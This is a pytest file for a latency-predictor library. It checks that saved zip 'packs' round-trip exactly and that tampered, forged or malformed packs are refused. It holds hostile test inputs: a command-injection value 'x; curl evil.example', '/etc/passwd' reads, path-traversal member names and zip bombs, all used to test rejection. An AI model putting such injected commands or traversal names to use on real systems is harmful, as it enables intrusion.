"""Packs keep everything, and refuse everything that was not written."""

import errno
import hashlib
import io
import json
import os
import re
import zipfile

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from synthetic_latency import SPACE, measured

from latprof.datasets.spaces.proxyless import ProxylessSpace
from latprof.errors import (
    DiskFullError,
    InvalidValueError,
    OutputPathError,
    PackAlteredError,
    PackError,
    PackSpaceError,
    PackVersionError,
)
from latprof.measurement.records import Target
from latprof.measurement.statistics import NoiseFloor
from latprof.predictors.models.by_name import make_predictor
from latprof.predictors.pack import archive
from latprof.predictors.pack.pack import HeldOut, Pack
from latprof.predictors.pack.saving import load_pack, save_pack
from latprof.predictors.training.split_training import train

TARGET = Target("cpu", "Example CPU", "onnxruntime", "1.2.3", input_shape=(1, 3, 224, 224))
FLOOR = NoiseFloor(0.008, 0.2, 31, "repeats")
QUESTIONS = SPACE.sample_choices(40, seed=77)


@pytest.fixture(scope="module")
def pack():
    return train(
        SPACE,
        *measured(120, noise=0.01),
        target=TARGET,
        noise_floor=FLOOR,
        reference="proxyless-mobile",
        reference_ms=14.25,
    )


@pytest.fixture(scope="module")
def saved(pack, tmp_path_factory):
    path = tmp_path_factory.mktemp("pack") / "a.pack"
    save_pack(pack, path)
    return path


def rewritten(path, target, change):
    """Copy a pack with its members changed by ``change``, digests and sizes made to fit again."""
    with zipfile.ZipFile(path) as source:
        members = {name: source.read(name) for name in source.namelist()}
    manifest = json.loads(members.pop("manifest.json"))
    members.pop("manifest.sha256")
    change(manifest, members)
    manifest["files"] = {
        name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
        for name, data in members.items()
    }
    data = json.dumps(manifest).encode()
    archive.write_archive(target, data, members)
    return target


# Round trips -----------------------------------------------------------------------------


def test_everything_in_a_pack_comes_back(pack, saved):
    loaded = load_pack(saved)
    for name in ("target", "metrics", "comparison", "noise_floor", "reference", "reference_ms"):
        assert getattr(loaded, name) == getattr(pack, name)
    for name in ("training_rows", "interval_coverage", "interval_relative", "created_at"):
        assert getattr(loaded, name) == getattr(pack, name)
    assert loaded.latprof_version == pack.latprof_version
    assert loaded.predictor.name == "hybrid"
    assert loaded.held_out.architectures == pack.held_out.architectures
    np.testing.assert_array_equal(loaded.held_out.measured_ms, pack.held_out.measured_ms)
    np.testing.assert_array_equal(loaded.held_out.predicted_ms, pack.held_out.predicted_ms)
    np.testing.assert_array_equal(
        loaded.predict(QUESTIONS).latency_ms, pack.predict(QUESTIONS).latency_ms
    )


def test_saving_what_was_loaded_gives_the_same_bytes(saved, tmp_path):
    save_pack(load_pack(saved), tmp_path / "b.pack")
    assert (tmp_path / "b.pack").read_bytes() == saved.read_bytes()


def test_a_prediction_carries_its_interval_and_target(pack):
    prediction = pack.predict(SPACE.architectures(QUESTIONS))
    assert len(prediction) == 40
    assert prediction.target == TARGET
    assert prediction.coverage == 0.9
    assert np.all((prediction.low_ms < prediction.latency_ms) & (prediction.distance > 0))
    half = (prediction.high_ms - prediction.low_ms) / 2 / prediction.latency_ms
    assert np.median(half) == pytest.approx(pack.interval_relative, rel=0.2)


def test_trees_come_back_to_the_bit(with_trees, tmp_path):
    assert len(with_trees.trees_)
    save_pack(with_trees, tmp_path / "a.pack", target=TARGET)
    loaded = load_pack(tmp_path / "a.pack")
    assert loaded.target == TARGET
    np.testing.assert_array_equal(
        loaded.predictor.predict(QUESTIONS), with_trees.predict(QUESTIONS)
    )
    prediction = loaded.predict(QUESTIONS)
    low, high = with_trees.predict_interval(QUESTIONS)
    assert prediction.coverage == 0.9
    np.testing.assert_array_equal(prediction.low_ms, low)
    np.testing.assert_array_equal(prediction.high_ms, high)
    np.testing.assert_array_equal(prediction.distance, with_trees.distance(QUESTIONS))


@settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    files=st.dictionaries(
        st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,9}(/[a-z]{1,5})?", fullmatch=True),
        st.binary(max_size=400),
        max_size=5,
    ),
    reference=st.text(max_size=20),
    reference_ms=st.none() | st.floats(0, 1e9),
)
def test_extra_files_and_texts_come_back(fitted_small, tmp_path, files, reference, reference_ms):
    pack = Pack(fitted_small, reference=reference, reference_ms=reference_ms, extra_files=files)
    save_pack(pack, tmp_path / "a.pack")
    loaded = load_pack(tmp_path / "a.pack")
    assert dict(loaded.extra_files) == files
    assert (loaded.reference, loaded.reference_ms) == (reference, reference_ms)


@pytest.fixture(scope="module")
def fitted_small():
    return make_predictor("linear", SPACE).fit(*measured(40))


def test_an_extra_file_that_packs_very_well_can_be_read_again(fitted_small, tmp_path):
    zeros = bytes(5_000_000)
    save_pack(Pack(fitted_small, extra_files={"zeros": zeros}), tmp_path / "a.pack")
    assert load_pack(tmp_path / "a.pack").extra_files["zeros"] == zeros


def test_a_space_of_ones_own_is_passed_to_load(tmp_path):
    class Own(ProxylessSpace):
        name = "own"

    choices, latency = measured(30)
    save_pack(make_predictor("linear", Own()).fit(choices, latency), tmp_path / "own.pack")
    with pytest.raises(PackError, match="search space that is not known here"):
        load_pack(tmp_path / "own.pack")
    assert load_pack(tmp_path / "own.pack", space=Own()).space.name == "own"
    with pytest.raises(PackSpaceError):
        load_pack(tmp_path / "own.pack", space=SPACE)


def test_check_space_refuses_another_space(pack):
    pack.check_space(ProxylessSpace())
    with pytest.raises(PackSpaceError, match="another search space"):
        pack.check_space(ProxylessSpace(resolution=192))


def test_held_out_rows_of_different_lengths_are_refused():
    with pytest.raises(InvalidValueError):
        HeldOut(("a",), np.ones(2), np.ones(1))


def test_altered_content_is_refused_even_where_the_zip_is_whole(saved, tmp_path):
    with zipfile.ZipFile(saved) as source:
        members = {name: source.read(name) for name in source.namelist()}
    for name, content in members.items():
        middle = len(content) // 2
        other = bytes([content[middle] ^ 1])
        changed = {**members, name: content[:middle] + other + content[middle + 1 :]}
        with zipfile.ZipFile(tmp_path / "a.pack", "w") as target:
            for member, data in changed.items():
                target.writestr(member, data)
        with pytest.raises(PackAlteredError):
            load_pack(tmp_path / "a.pack")
        with zipfile.ZipFile(tmp_path / "a.pack", "w") as target:
            for member, data in members.items():
                if member != name:
                    target.writestr(member, data)
        with pytest.raises(PackError):
            load_pack(tmp_path / "a.pack")
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(tmp_path / "a.pack", "w") as target:
        for name, data in members.items():
            target.writestr(name, data)
        target.writestr("extra/more", b"")
    with pytest.raises(PackAlteredError, match="extra/more was added"):
        load_pack(tmp_path / "a.pack")


def change_manifest(name, value):
    def change(manifest, _members):
        manifest[name] = value

    return change


def nested(depth):
    return json.loads("[" * depth + "]" * depth)


FORGERIES = {
    "another predictor": change_manifest("predictor", {"name": "linear", "parameters": {}}),
    "no such predictor": change_manifest("predictor", {"name": "x", "parameters": {}}),
    "other parameters": change_manifest("predictor", {"name": "hybrid", "parameters": {"seed": 9}}),
    "another space": change_manifest("space", ProxylessSpace(resolution=64).description[:-1]),
    "no such space": change_manifest("space", '{"name": "x", "options": {}}'),
    "hostile options": change_manifest(
        "space", '{"name": "proxyless", "options": {"widths": "a"}}'
    ),
    "endless options": change_manifest(
        "space", '{"name": "proxyless", "options": {"num_classes": 1e999}}'
    ),
    "huge options": change_manifest(
        "space", json.dumps({"name": "proxyless", "options": {"resolution": 10**400}})
    ),
    "a list as space": change_manifest("space", ["proxyless"]),
    "no target fields": change_manifest("target", {}),
    "a target of numbers": change_manifest("target", {**TARGET.to_dict(), "device": 3}),
    "a target with more": change_manifest("target", {**TARGET.to_dict(), "more": 3}),
    "half an image": change_manifest("target", {**TARGET.to_dict(), "input_shape": [1.5]}),
    "text as metrics": change_manifest("metrics", "good"),
    "metrics without rows": change_manifest("metrics", {"rmse_ms": 1}),
    "a comparison of numbers": change_manifest("comparison", {"linear": 3}),
    "a noise floor of text": change_manifest("noise_floor", {"relative": "low"}),
    "negative rows": change_manifest("training_rows", -1),
    "true rows": change_manifest("training_rows", True),
    "huge rows": change_manifest("training_rows", 10**60),
    "a coverage above 1": change_manifest("interval", {"coverage": 2, "relative": 0.1}),
    "a negative width": change_manifest("interval", {"coverage": 0.9, "relative": -1}),
    "no interval": change_manifest("interval", None),
    "version 0": change_manifest("format_version", 0),
    "a version of text": change_manifest("format_version", "1"),
    "deep nesting": change_manifest("reference", nested(500)),
    "no predictor files": lambda _, members: members.pop("predictor/table.json"),
    "an empty table": lambda _, members: members.update({"predictor/table.json": b""}),
    "a table of lists": lambda _, members: members.update({"predictor/table.json": b"[]"}),
    "NaN": lambda _, members: members.update({"predictor/table.json": b'{"seed": NaN}'}),
    "deep JSON": lambda _, members: members.update({"predictor/table.json": b"[" * 100_000}),
    "long digits": lambda _, members: members.update(
        {"predictor/table.json": b'{"seed": ' + b"9" * 10_000 + b"}"}
    ),
    "no text": lambda _, members: members.update({"held_out.json": b"\xff\xfe"}),
    "held-out text": lambda _, members: members.update(
        {"held_out.json": b'{"architectures": ["a"], "measured_ms": ["1"], "predicted_ms": [1]}'}
    ),
    "held-out lengths": lambda _, members: members.update(
        {"held_out.json": b'{"architectures": ["a"], "measured_ms": [1, 2], "predicted_ms": [1]}'}
    ),
}


@pytest.mark.parametrize("change", FORGERIES.values(), ids=FORGERIES.keys())
def test_a_forged_pack_with_fitting_digests_is_refused(saved, tmp_path, change):
    with pytest.raises(PackError):
        load_pack(rewritten(saved, tmp_path / "a.pack", change))


@pytest.mark.parametrize(
    "package",
    ["x; curl evil.example", "-r /etc/passwd", "a" * 200, 3, None, ["x"], "", "git+https:x"],
)
def test_a_package_to_install_is_a_name_or_is_not_named(saved, tmp_path, package):
    def change(manifest, _members):
        manifest["predictor"] = {"name": "theirs", "parameters": {}}
        manifest["packages"] = {"predictor": package}

    with pytest.raises(PackError, match="known: hybrid") as caught:
        load_pack(rewritten(saved, tmp_path / "a.pack", change))
    assert "brings it" not in str(caught.value)


def test_packages_that_are_no_mapping_are_refused(saved, tmp_path):
    def change(manifest, _members):
        manifest["predictor"] = {"name": "theirs", "parameters": {}}
        manifest["packages"] = ["acme"]

    with pytest.raises(PackError):
        load_pack(rewritten(saved, tmp_path / "a.pack", change))


def test_forged_numbers_in_any_file_are_refused_or_usable(with_trees, tmp_path):
    save_pack(with_trees, tmp_path / "a.pack")
    generator = np.random.default_rng(0)
    values = [b"-1", b"1e999", b"null", b'"x"', b"[]", b"99999999999", b"0.5", b"{}", b"true"]
    digits, usable = {}, 0
    for _ in range(100):  # python -m tests.fuzz packs forges thousands

        def change(_manifest, members):
            name = sorted(members)[int(generator.integers(len(members)))]
            text = members[name]
            if name not in digits:
                digits[name] = [found.start() for found in re.finditer(rb"(?<!^)[0-9]", text)]
            at = digits[name][int(generator.integers(len(digits[name])))]
            value = values[int(generator.integers(len(values)))]
            members[name] = text[:at] + value + text[at + 1 :]

        path = rewritten(tmp_path / "a.pack", tmp_path / "m.pack", change)
        try:
            predicted = load_pack(path).predict(QUESTIONS).latency_ms
        except PackError:
            continue
        usable += 1
        assert np.isfinite(predicted).all()
    assert 0 < usable < 85


def test_a_newer_format_says_to_update(saved, tmp_path):
    path = rewritten(saved, tmp_path / "a.pack", change_manifest("format_version", 3))
    with pytest.raises(PackVersionError, match=r"expected version 2, got 3\); update latprof"):
        load_pack(path)


# Files that are no packs -----------------------------------------------------------------


def test_what_is_no_file_or_no_zip_is_refused(saved, tmp_path):
    with pytest.raises(PackError, match="No such file"):
        load_pack(tmp_path / "missing.pack")
    with pytest.raises(PackError, match="regular file"):
        load_pack(tmp_path)
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(PackError, match="regular file"):
        load_pack(tmp_path / "pipe")
    with pytest.raises(PackError):
        load_pack("null\0.pack")
    for data in (b"", b"PK", b"not a zip" * 100, bytes(1000), saved.read_bytes()[:-30]):
        (tmp_path / "a.pack").write_bytes(data)
        with pytest.raises(PackError):
            load_pack(tmp_path / "a.pack")


def zipped(path, members, **arguments):
    with zipfile.ZipFile(path, "w", **arguments) as target:
        for name, data in members:
            target.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return path


@pytest.mark.parametrize(
    "name", ["../a", "/etc/passwd", "a/../b", "a\\b", "C:a", "", "a//b", ".hidden", "é", "x" * 300]
)
def test_names_that_leave_the_pack_are_refused(tmp_path, name):
    with pytest.raises(PackError):
        load_pack(zipped(tmp_path / "a.pack", [(name, b"x"), ("manifest.json", b"{}")]))
    with pytest.raises(InvalidValueError):
        archive.check_name(name)


def test_bombs_are_refused(saved, tmp_path):
    bomb = zipped(tmp_path / "a.pack", [("manifest.json", bytes(50_000_000))])
    with pytest.raises(PackError, match="compressed too far"):
        load_pack(bomb)
    many = zipped(tmp_path / "a.pack", [(f"extra/{i}", b"") for i in range(100)])
    with pytest.raises(PackError, match="100 files"):
        load_pack(many)
    lots = zipped(tmp_path / "a.pack", [(f"extra/{i}", b"") for i in range(5000)])
    with pytest.raises(PackError, match="too many files"):
        load_pack(lots)


def test_a_member_that_is_there_twice_is_refused(saved, tmp_path):
    with zipfile.ZipFile(saved) as source:
        members = [(name, source.read(name)) for name in source.namelist()]
    with pytest.warns(UserWarning, match="Duplicate"):
        path = zipped(tmp_path / "a.pack", [*members, members[0]])
    with pytest.raises(PackError, match="twice"):
        load_pack(path)


def test_other_compressions_and_comments_are_refused(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_BZIP2) as target:
        target.writestr("manifest.json", b"{}")
    (tmp_path / "a.pack").write_bytes(buffer.getvalue())
    with pytest.raises(PackError, match="compressed in another way"):
        load_pack(tmp_path / "a.pack")
    with zipfile.ZipFile(tmp_path / "b.pack", "w") as target:
        target.writestr("manifest.json", b"{}")
        target.comment = b"hello"
    with pytest.raises(PackError, match="no pack"):
        load_pack(tmp_path / "b.pack")


# Writing ---------------------------------------------------------------------------------


def test_a_path_that_cannot_be_written_is_refused_and_nothing_is_left(pack, tmp_path):
    (tmp_path / "file").write_text("x")
    (tmp_path / "folder").mkdir()
    before = sorted(tmp_path.iterdir())
    for path in (tmp_path / "none" / "a.pack", tmp_path / "file" / "a.pack", tmp_path / "folder"):
        with pytest.raises(OutputPathError, match="cannot write"):
            save_pack(pack, path)
    with pytest.raises(OutputPathError):
        save_pack(pack, f"{tmp_path}/null\0.pack")
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.parametrize(
    ("number", "error"), [(errno.ENOSPC, DiskFullError), (errno.EIO, OutputPathError)]
)
def test_a_full_disk_leaves_the_old_pack(pack, saved, tmp_path, monkeypatch, number, error):
    path = tmp_path / "a.pack"
    path.write_bytes(saved.read_bytes())

    def fail(_descriptor):
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(os, "fsync", fail)
    with pytest.raises(error):
        save_pack(pack, path)
    monkeypatch.undo()
    assert [p.name for p in tmp_path.iterdir()] == ["a.pack"]
    assert path.read_bytes() == saved.read_bytes()


def test_a_really_full_disk_is_told_from_other_faults(pack):
    if not os.access("/dev/full", os.W_OK):
        pytest.skip("no /dev/full here")
    with pytest.raises(OutputPathError):  # its folder takes no temporary file, or it is no file
        save_pack(pack, "/dev/full/a.pack")


def test_bad_names_and_unfitted_predictors_are_not_saved(fitted_small, tmp_path):
    with pytest.raises(InvalidValueError, match="name"):
        save_pack(Pack(fitted_small, extra_files={"../x": b""}), tmp_path / "a.pack")
    many = {f"f{i}": b"" for i in range(70)}
    with pytest.raises(InvalidValueError, match="too large"):
        save_pack(Pack(fitted_small, extra_files=many), tmp_path / "a.pack")
    with pytest.raises(InvalidValueError, match="not fitted"):
        save_pack(make_predictor("linear", SPACE), tmp_path / "a.pack")
    assert not list(tmp_path.iterdir())
